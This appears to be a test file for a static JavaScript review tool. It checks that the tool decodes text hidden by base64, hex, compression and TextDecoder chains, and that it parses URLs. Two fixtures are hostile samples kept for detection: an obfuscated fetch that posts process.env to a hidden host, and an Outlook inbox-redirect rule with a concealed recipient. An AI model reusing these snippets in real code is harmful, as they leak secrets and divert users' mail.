/**
 * The byte decoders of the evaluator: any text hidden by a chain of encodings Node offers (base64, hex,
 * byte arrays, typed arrays, TextEncoder/TextDecoder, deflate, gzip, brotli, pako) reads as the text,
 * for generated texts and every chain; and an array of numbers that is not bytes keeps its own meaning.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import fc from "fast-check";
import type { ESTree } from "meriyah";
import { evalStatic } from "../../src/review/eval/evaluate.js";
import { DYNAMIC, type StaticValue } from "../../src/review/eval/value.js";
import { analyzeJs } from "../../src/review/facts/collect.js";
import { parseProgram } from "../../src/review/js/parse.js";

/** The value of the last `const` of a program, with the program's other consts as names. */
function value(src: string): StaticValue {
  const prog = parseProgram(src, "x.js");
  const consts = new Map<string, ESTree.Node>();
  let last: ESTree.Node | null = null;
  for (const st of prog.body) {
    if (st.type !== "VariableDeclaration") continue;
    for (const d of st.declarations) {
      if (d.id.type === "Identifier" && d.init) {
        consts.set(d.id.name, d.init);
        last = d.init;
      }
    }
  }
  return evalStatic(last, (n) => consts.get(n) ?? null);
}

const b64 = (b: Buffer) => JSON.stringify(b.toString("base64"));
const list = (b: Buffer) => `[${[...b].join(", ")}]`;

/** Ways to hide text, each as the JavaScript that recovers it (the last const is the text). */
const CHAINS: Record<string, (t: string) => string> = {
  "deflate, base64, zlib.inflateSync": (t) =>
    `const zlib = require("zlib"); const v = zlib.inflateSync(Buffer.from(${b64(deflateSync(t))}, "base64")).toString();`,
  "gzip, destructured gunzipSync, named buffer": (t) =>
    `const raw = Buffer.from(${b64(gzipSync(t))}, "base64"); const v = gunzipSync(raw).toString("utf8");`,
  "raw deflate, inflateRawSync": (t) =>
    `const v = zlib.inflateRawSync(Buffer.from(${b64(deflateRawSync(t))}, "base64")).toString();`,
  "brotli, unzip by name": (t) =>
    `const v = zlib.brotliDecompressSync(Buffer.from(${b64(brotliCompressSync(t))}, "base64")).toString("utf-8");`,
  "gzip through unzipSync": (t) =>
    `const v = zlib.unzipSync(Buffer.from(${b64(gzipSync(t))}, "base64")).toString();`,
  "TextDecoder on a Uint8Array literal": (t) =>
    `const d = new TextDecoder(); const v = d.decode(new Uint8Array(${list(Buffer.from(t))}));`,
  "TextDecoder with a label on Uint8Array.from": (t) =>
    `const v = new TextDecoder("utf-8").decode(Uint8Array.from(${list(Buffer.from(t))}));`,
  "util.TextDecoder on Buffer.from(hex)": (t) =>
    `const v = new util.TextDecoder().decode(Buffer.from(${JSON.stringify(Buffer.from(t).toString("hex"))}, "hex"));`,
  "Buffer.concat of parts": (t) => {
    const b = Buffer.from(t);
    const cut = b.length >> 1;
    return `const v = Buffer.concat([Buffer.from(${list(b.subarray(0, cut))}), Buffer.from(${b64(b.subarray(cut))}, "base64")]).toString();`;
  },
  "pako.inflate to a string": (t) =>
    `const v = pako.inflate(Buffer.from(${b64(deflateSync(t))}, "base64"), { to: "string" });`,
  "TextEncoder round trip": (t) =>
    `const v = new TextDecoder().decode(new TextEncoder().encode(${JSON.stringify(t)}));`,
};

describe("byte decoders", () => {
  for (const [name, chain] of Object.entries(CHAINS)) {
    it(`recovers any text: ${name}`, () => {
      fc.assert(
        fc.property(fc.string({ minLength: 1, maxLength: 80, unit: "grapheme" }), (t) => {
          assert.equal(value(chain(t)), t);
        }),
        { numRuns: 60, seed: 7 },
      );
    });
  }

  it("an array of numbers that is not bytes is never read as text", () => {
    assert.notEqual(value("const v = [104, 105].toString();"), "hi");
    assert.notEqual(value('const v = [104, 105].toString("utf8");'), "hi");
    assert.equal(value("const v = Buffer.from([104, 105]).toString();"), "hi");
  });

  it("stays DYNAMIC on what is not known: corrupt data, unknown encodings, run-time input", () => {
    assert.equal(
      value('const v = zlib.inflateSync(Buffer.from("bm90IGRlZmxhdGU=", "base64")).toString();'),
      DYNAMIC,
    );
    assert.equal(value('const v = Buffer.from("aGk=", "base64").toString("klingon");'), DYNAMIC);
    assert.equal(
      value('const v = zlib.inflateSync(Buffer.from(process.argv[2], "base64")).toString();'),
      DYNAMIC,
    );
    assert.equal(value("const v = new TextDecoder().decode(new Uint8Array([300, 1]));"), DYNAMIC);
  });

  it("caps what a decompression may produce (a zip bomb in a string stays DYNAMIC)", () => {
    const bomb = deflateSync(Buffer.alloc(10 * 1024 * 1024, 0x41));
    assert.equal(
      value(`const v = zlib.inflateSync(Buffer.from(${b64(bomb)}, "base64")).toString();`),
      DYNAMIC,
    );
  });

  it("a network target hidden by deflate is the decoded host, and the text is marked decoded", () => {
    const hidden = deflateSync("collect-metrics.net").toString("base64");
    const facts = analyzeJs(
      `const zlib = require("zlib");
       const host = zlib.inflateSync(Buffer.from("${hidden}", "base64")).toString();
       fetch("https://" + host + "/c", { method: "POST", body: JSON.stringify(process.env) });`,
      "x.js",
    );
    assert.ok(
      facts.capabilities.some((c) => c.family === "network" && c.target === "https://collect-metrics.net/c"),
    );
    assert.ok(facts.strings.some((s) => s.decoded && s.value === "collect-metrics.net"));
  });
});

describe("URLs and search parameters", () => {
  it("reads a URL's parts as Node's parser does", () => {
    assert.equal(
      value('const v = new URL("/hook?x=1", "https://Relay.Example.net:8443/a/").href;'),
      "https://relay.example.net:8443/hook?x=1",
    );
    assert.equal(
      value('const u = new URL("https://user:pw@relay.example.net/p"); const v = u.hostname;'),
      "relay.example.net",
    );
    assert.equal(
      value('const v = new URL("https://relay.example.net/p").origin;'),
      "https://relay.example.net",
    );
    assert.equal(value('const v = new URL("not a url").href;'), DYNAMIC);
  });

  it("decodes percent escapes in search parameters without a decode call", () => {
    assert.equal(
      value(
        'const p = new URLSearchParams("preset=inbox&redirect=ops%40mail-relay.net"); const v = p.get("redirect");',
      ),
      "ops@mail-relay.net",
    );
    assert.equal(
      value('const v = new URL("https://x.example/?to=a%2Bb%40c.io").searchParams.get("to");'),
      "a+b@c.io",
    );
    assert.equal(
      value('const v = new URLSearchParams({ to: "a@b.io", n: "1" }).toString();'),
      "to=a%40b.io&n=1",
    );
    assert.equal(value('const v = new URLSearchParams(location.search).get("to");'), DYNAMIC);
  });

  it("a recipient hidden in a query string reaches the facts decoded", () => {
    const facts = analyzeJs(
      `const preset = new URLSearchParams("mode=archive&fwd=audit%40mail-relay.net");
       export const rule = { actions: { redirectTo: [{ emailAddress: { address: preset.get("fwd") } }] } };
       fetch("https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules", { method: "POST", body: JSON.stringify(rule) });`,
      "x.js",
    );
    assert.deepEqual(
      facts.keyed.map((k) => [k.key, k.value]),
      [["redirectTo", "audit@mail-relay.net"]],
    );
  });
});
